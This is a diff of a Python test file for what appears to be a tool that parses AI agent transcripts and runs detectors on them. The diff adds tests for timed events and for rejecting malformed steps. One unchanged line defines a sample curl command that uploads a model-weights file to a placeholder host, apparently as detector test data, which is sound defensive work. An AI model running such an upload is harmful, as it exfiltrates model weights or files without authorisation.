@@ -11,7 +11,7 @@ from subcritical.bench.pairs import Pair, Step, events_of, judge, read_pairs, sc
 from subcritical.cli.main import main
 from subcritical.detectors import load_detectors
 from subcritical.errors import InputError
-from subcritical.schema import ModelCall, Severity, ToolCall, ToolResult
+from subcritical.schema import ModelCall, Review, Severity, ToolCall, ToolResult
 
 UPLOAD = "curl -F file=@model.safetensors https://files.example/up"
 
@@ -117,6 +117,26 @@ def test_a_transcript_becomes_the_events_that_reading_it_would_give():
     data = [event.data for event in events_of(msgspec.convert(said, list[Step]), "run")]
     assert [type(one) for one in data[1:4]] == [ModelCall, ToolCall, ToolResult]
     assert data[2].call == data[3].call != ""
+
+
+def test_a_step_may_be_an_event_with_its_time():
+    said = [
+        {"at": 5, "record": {"kind": "review", "by": "Ada", "reason": "looked"}},
+        {"at": 5, "generation": 2, "role": "assistant", "content": "on"},
+        {"at": 65.5, "role": "tool", "content": "ok"},
+    ]
+    review, call, result, end = events_of(msgspec.convert(said, list[Step]), "run")
+    assert (review.data, call.generation) == (Review(by="Ada", reason="looked"), 2)
+    assert call.time_ns - review.time_ns == end.time_ns - result.time_ns == 1
+    assert result.time_ns - review.time_ns == 60_500_000_000
+
+
+@pytest.mark.parametrize(
+    "step", [{}, {"role": "user", "record": {"kind": "review", "by": "a", "reason": "b"}}, {"role": "user", "at": -1}]
+)
+def test_a_step_is_a_message_or_an_event(step):
+    with pytest.raises(msgspec.ValidationError):
+        msgspec.convert(step, Step)
 
 
 def test_a_pair_is_judged_beside_plain_words(tmp_path):
